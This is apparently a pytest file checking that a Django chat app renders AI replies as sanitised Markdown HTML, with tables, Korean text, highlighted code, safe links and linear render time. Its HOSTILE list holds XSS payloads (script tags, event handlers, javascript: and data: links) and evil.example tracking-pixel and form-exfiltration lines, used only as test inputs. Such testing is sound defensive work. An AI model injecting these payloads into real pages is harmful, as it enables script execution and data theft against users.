"""What a model wrote is shown as Markdown (issue 45, point 4; docs/design.md §7): tables,
headings, lists, quotes and highlighted code, in Korean and English, rendered on the server
and sanitised, so that whatever the text holds (script tags, event attributes,
javascript: and data: links, HTML inside tables) nothing of it runs or loads; in time
linear in the text, huge tables included. The reply's frame and the API carry the HTML."""

import gc
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from channels.db import database_sync_to_async
from django.test import Client

from push.markdown import (
    HIGHLIGHT_MAX_CHARS,
    RENDER_MAX_CHARS,
    markdown_html,
    markdown_inline_html,
)
from tests.factories import dm_channel, make_office, make_user
from tests.fake_openai import FakeOpenAI, Reply
from tests.missions.helpers import frames_until
from tests.timing import cpu_bound
from tests.ws import open_socket

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del",
    "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th",
    "td", "a", "span",
}  # fmt: skip


class _Tags(HTMLParser):
    """Every element of a piece of HTML, with its attributes, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parsed(html: str) -> _Tags:
    tags = _Tags()
    tags.feed(html)
    tags.close()
    return tags


def _tags(html: str) -> list[str]:
    return [tag for tag, _ in _parsed(html).elements]


def _assert_inert(html: str) -> None:
    """Only the tags a reply may hold; no event handler, no style but alignment; every
    link to an http(s) or mailto address, opened apart from the page."""
    for tag, attrs in _parsed(html).elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            if name == "style":
                assert value.replace(" ", "").rstrip(";") in {
                    "text-align:left",
                    "text-align:right",
                    "text-align:center",
                }, html
        if tag == "a":
            assert attrs["href"].startswith(("http://", "https://", "mailto:")), html
            assert attrs["rel"] == "noopener noreferrer" and attrs["target"] == "_blank"


REPORTS = {
    "en": (
        "# Launch budget\n\n"
        "Numbers **as agreed**:\n\n"
        "| Item | Cost | Owner |\n"
        "|:-----|-----:|:-----:|\n"
        "| Ads | $800 | Mara |\n"
        "| Venue | $1,200 | Theo |\n\n"
        "1. Book the venue\n2. Order the banners\n\n"
        "- print\n- online\n\n"
        "> Keep the receipts.\n\n"
        "```python\ndef total(costs):\n    return sum(costs)\n```\n"
    ),
    "ko": (
        "## 출시 예산\n\n"
        "합의한 **금액**이에요:\n\n"
        "| 항목 | 비용 | 담당 |\n"
        "|:-----|-----:|:-----:|\n"
        "| 광고 | 80만원 | 지수 |\n"
        "| 장소 | 120만원 | 민호 |\n\n"
        "1. 장소 예약\n2. 현수막 주문\n\n"
        "- 인쇄\n- 온라인\n\n"
        "> 영수증은 꼭 챙겨 주세요.\n\n"
        "```python\ndef total(costs):\n    return sum(costs)\n```\n"
    ),
}


@pytest.mark.parametrize("language", ["en", "ko"])
def test_a_report_renders_its_heading_table_lists_quote_and_highlighted_code(
    language: str,
) -> None:
    html = markdown_html(REPORTS[language])
    _assert_inert(html)
    tags = _tags(html)
    assert ("h1" if language == "en" else "h2") in tags
    assert tags.count("th") == 3 and tags.count("td") == 6
    assert {"ol", "ul", "blockquote", "strong", "pre", "code"} <= set(tags)
    assert tags.count("li") == 4
    parsed = _parsed(html)
    aligned = [a.get("style", "") for t, a in parsed.elements if t in ("th", "td")]
    assert aligned[:3] == ["text-align:left", "text-align:right", "text-align:center"]
    # The code's keywords are coloured by class; its text is the code as written.
    classes = {a.get("class") for t, a in parsed.elements if t == "span"}
    assert "tok-k" in classes  # def, return
    assert "def total(costs):\n    return sum(costs)" in "".join(parsed.text)
    cell = "80만원" if language == "ko" else "$1,200"
    assert cell in "".join(parsed.text)


def test_code_in_an_unknown_language_or_too_long_is_shown_plain() -> None:
    unknown = markdown_html("```klingon\nqapla' <b>\n```")
    assert "<span" not in unknown and "qapla' &lt;b&gt;" in unknown
    long = "x = 1\n" * (HIGHLIGHT_MAX_CHARS // 6 + 1)
    assert "<span" not in markdown_html(f"```python\n{long}```")
    assert "<span" in markdown_html("```python\nx = 1\n```")


TABLE_ATTACK = (
    "| a | b |\n|---|---|\n| <b>bold</b> | <a href=javascript:alert(1)>y</a> |\n"
    "| <iframe src=https://evil.example></iframe> | <svg onload=alert(1)> |"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![pixel](https://evil.example/track.png?secret=1)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    '[x](https://example.com "title" onmouseover="alert(1)")',
    'https://evil.example/"onmouseover="alert(1)',
    '```"><script>alert(1)</script>\ncode\n```',
    "``` onmouseover=alert(1)\ncode\n```",
    TABLE_ATTACK,
    "| [x](javascript:alert(1)) | <style>body{display:none}</style> |\n|---|---|\n| 1 | 2 |",
    '<div style="position:fixed;inset:0">cover</div>',
    "<!-- comment --><form action=https://evil.example><input name=p></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<스크립트>경고</스크립트> <script>alert('한국어')</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inert(text: str) -> None:
    for html in (markdown_html(text), markdown_inline_html(text)):
        _assert_inert(html)
        assert "<script" not in html and "<img" not in html and "<iframe" not in html


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    html = markdown_html('<script>alert("hi")</script> and <b>bold?</b>')
    assert "&lt;script&gt;" in html and "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert "".join(_parsed(html).text).strip() == '<script>alert("hi")</script> and <b>bold?</b>'
    # A link that may not be one stays the text that was written.
    assert "[click](javascript:alert(1))" in "".join(_parsed(markdown_html(HOSTILE[3])).text)


def test_links_are_made_of_http_addresses_and_open_apart_from_the_page() -> None:
    html = markdown_html(
        "See https://example.com/launch?a=1&b=2, [the docs](https://docs.example.com/x), "
        "mail <mailto:team@example.com> and example.com"
    )
    _assert_inert(html)
    hrefs = [a["href"] for t, a in _parsed(html).elements if t == "a"]
    assert hrefs == [
        "https://example.com/launch?a=1&b=2",
        "https://docs.example.com/x",
        "mailto:team@example.com",
    ]


def test_a_plan_part_or_a_summary_item_renders_inline_only() -> None:
    html = markdown_inline_html("**예산** `80만원`을 [문서](https://example.com)에 정리\n# 제목")
    assert set(_tags(html)) == {"strong", "code", "a", "br"}
    _assert_inert(html)


def _cpu_seconds(text: str, runs: int = 3) -> float:
    """The least CPU time of a few renderings, with Python's cycle collector held off while
    each runs: another process's burst, or a full collection over the tokens a large text
    allocates (measured: 4.0x the time for 4x the rows without it, 3.1x to 8.2x with it),
    is not the renderer's growth."""
    markdown_html(text[:10])  # the parser's first use is not timed
    best = float("inf")
    for _ in range(runs):
        gc.collect()
        gc.disable()
        try:
            start = time.thread_time()
            markdown_html(text)
            best = min(best, time.thread_time() - start)
        finally:
            gc.enable()
    return best


def _table(rows: int, columns: int = 6) -> str:
    head = "| " + " | ".join(f"열{c}" for c in range(columns)) + " |\n"
    rule = "|" + "---|" * columns + "\n"
    body = "".join(
        "| " + " | ".join(f"<b>{r}</b> 값{c}" for c in range(columns)) + " |\n" for r in range(rows)
    )
    return head + rule + body


# Four times the text may cost up to this many times the time: linear work gives about 4,
# quadratic work 16.
GROWTH = 8
MEASURABLE = 0.02


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda n: _table(n // 60), id="huge table"),
        pytest.param(lambda n: "|" * n, id="pipes"),
        pytest.param(lambda n: "| a |\n|---|\n" + "|" * n, id="one row of pipes"),
        pytest.param(lambda n: "| a | b |\n|---|---|\n" + "| x |\n" * (n // 6), id="short rows"),
        pytest.param(lambda n: "[" * n, id="brackets"),
        pytest.param(lambda n: "*a " * (n // 3), id="emphasis"),
        pytest.param(lambda n: "`" * n, id="backticks"),
        pytest.param(lambda n: "> " * (n // 2), id="nested quotes"),
        pytest.param(lambda n: "- " * (n // 2), id="nested lists"),
        pytest.param(lambda n: "<" * n, id="angles"),
        pytest.param(lambda n: "https://a.example/" + "a" * n, id="long address"),
    ],
)
def test_rendering_takes_time_linear_in_the_text(make: Any) -> None:
    small, large = make(RENDER_MAX_CHARS // 5), make(RENDER_MAX_CHARS * 4 // 5)
    small_seconds, large_seconds = _cpu_seconds(small), _cpu_seconds(large)
    # CPU time of this thread (what the work costs, however busy the machine): about a
    # second for the worst kind on a quiet one.
    assert large_seconds < cpu_bound(3.0), large_seconds
    if small_seconds > MEASURABLE:
        assert large_seconds / small_seconds < GROWTH, (small_seconds, large_seconds)


def test_a_text_past_the_rendering_limit_is_shown_as_its_plain_text() -> None:
    text = "<script>alert(1)</script> **not bold**\n\n" + "x" * RENDER_MAX_CHARS
    html = markdown_html(text)
    assert _tags(html) == ["p", "p"] and "&lt;script&gt;" in html and "**not bold**" in html


def test_a_huge_table_renders_every_row_inert() -> None:
    table = _table(800)
    assert len(table) < RENDER_MAX_CHARS
    html = markdown_html(table)
    _assert_inert(html)
    assert _tags(html).count("tr") == 801 and "<b>" not in html


# --- the reply as the page gets it ------------------------------------------------------


@database_sync_to_async
def _setup() -> tuple[Any, Any]:
    user = make_user()
    return user, dm_channel(make_office(user))


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("language", ["en", "ko"])
async def test_the_reply_frame_carries_the_rendered_markdown_and_the_deltas_the_text(
    model: FakeOpenAI, language: str
) -> None:
    user, channel = await _setup()
    _, _, socket = await open_socket(channel.pk, user)
    model.enqueue(Reply(REPORTS[language]))
    asked = "예산을 표로 정리해 줘" if language == "ko" else "Put the budget in a table"
    await socket.send_json_to({"type": "instruction", "text": asked})
    frames = await frames_until(socket, "reply.done")
    await socket.disconnect()
    streamed = "".join(f["text"] for f in frames if f["type"] == "reply.delta")
    assert streamed == REPORTS[language]
    done = frames[-1]["message"]
    assert done["text"] == REPORTS[language].strip()
    assert {"table", "h1" if language == "en" else "h2", "ol", "pre"} <= set(_tags(done["html"]))
    _assert_inert(done["html"])
    # What the person wrote is shown as text: it has no HTML of its own.
    [mine] = [f["message"] for f in frames if f["type"] == "message"]
    assert mine["kind"] == "user" and "html" not in mine


@pytest.mark.django_db(transaction=True)
def test_the_timeline_api_gives_each_reply_its_html(model: FakeOpenAI) -> None:
    from missions.intake import instruction_accept

    user = make_user()
    channel = dm_channel(make_office(user))
    model.enqueue(Reply(TABLE_ATTACK + "\n\n" + REPORTS["ko"]))
    instruction_accept(channel=channel, text="표로 정리해 줘")
    client = Client()
    client.force_login(user)
    messages = client.get(f"/api/channels/{channel.pk}/messages").json()["messages"]
    [reply] = [m for m in messages if m["kind"] == "employee"]
    assert "table" in _tags(reply["html"]) and "iframe" not in _tags(reply["html"])
    _assert_inert(reply["html"])
    [asked] = [m for m in messages if m["kind"] == "user"]
    assert asked.get("html") is None
    # The chat page boots with the same.
    page = client.get(f"/c/{channel.pk}/")
    [booted] = [m for m in page.context["boot"]["messages"] if m["kind"] == "employee"]
    assert booted["html"] == reply["html"]
